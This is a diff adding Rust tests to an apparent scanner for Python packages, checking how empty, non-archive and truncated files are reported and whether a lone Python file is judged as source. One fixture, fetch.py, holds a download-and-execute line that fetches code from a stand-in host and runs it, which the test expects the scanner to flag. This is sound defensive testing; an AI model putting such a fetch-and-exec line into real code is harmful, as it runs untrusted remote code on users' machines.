@@ -80,6 +80,47 @@ fn what_was_not_read_is_never_clear() {
 }
 
 #[test]
+fn a_file_that_is_no_archive_is_never_clear_and_says_so() {
+    let world = World::new();
+    let noise: Vec<u8> = (0..5000_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8 | 1).collect();
+    let (sdist, wheel) = (sdist("x = 1"), wheel("x = 1"));
+    world.put("empty-1.0.tar.gz", b"");
+    world.put("letter-1.0-py3-none-any.whl", b"This is a letter and not a wheel.\n");
+    world.put("noise.bin", &noise);
+    world.put("cut-1.0-py3-none-any.whl", &wheel[..wheel.len() / 2]);
+    world.put("cut-1.0.tar.gz", &sdist[..sdist.len() / 2]);
+    for (name, said) in [
+        ("empty-1.0.tar.gz", "Not everything could be read: the file is empty"),
+        ("letter-1.0-py3-none-any.whl", "Not everything could be read: it is neither an archive nor a Python source"),
+        ("noise.bin", "Not everything could be read: it is neither an archive nor a Python source"),
+        ("cut-1.0-py3-none-any.whl", "Not everything could be read: no end record with a central directory"),
+        ("cut-1.0.tar.gz", "Not everything could be read: the stream ends early"),
+    ] {
+        // With the rules that everybody has, as everybody runs it.
+        let run = Run::of(world.bare(&["scan", "--format", "jsonl", name]).output().unwrap());
+        assert_eq!(run.code, 3, "{run:#?}");
+        let line = &run.lines()[0];
+        assert_eq!((&line["outcome"], &line["summary"]), (&Value::from("incomplete"), &Value::from(said)), "{line:#}");
+        assert_eq!(line["coverage"]["complete"], false);
+        let told = line["findings"].as_array().unwrap().iter().any(|finding| finding["rule"] == "archive-none");
+        assert_eq!(told, !name.starts_with("cut"), "{line:#}");
+    }
+}
+
+#[test]
+fn a_python_file_by_itself_is_judged_as_source() {
+    let world = World::new();
+    world.put("tool.py", b"print('hello')\n");
+    world.put("fetch.py", b"import urllib.request\nexec(urllib.request.urlopen('http://drop.test/a').read())\n");
+    let run = Run::of(world.bare(&["scan", "--format", "jsonl", "tool.py", "fetch.py"]).output().unwrap());
+    assert_eq!((run.code, run.column("outcome")[0].as_str()), (1, "clear"), "{run:#?}");
+    let fetch = &run.lines()[1];
+    assert!(matches!(fetch["outcome"].as_str(), Some("review" | "hold")), "{fetch:#}");
+    assert!(fetch["summary"].as_str().unwrap().starts_with("On import, fetch.py:2 "), "{fetch:#}");
+    assert_eq!((&fetch["findings"][0]["member"], &fetch["findings"][0]["line"]), (&"fetch.py".into(), &2.into()));
+}
+
+#[test]
 fn more_than_the_limit_is_hashed_and_never_clear() {
     let world = World::new();
     let limited = world.path("rules");
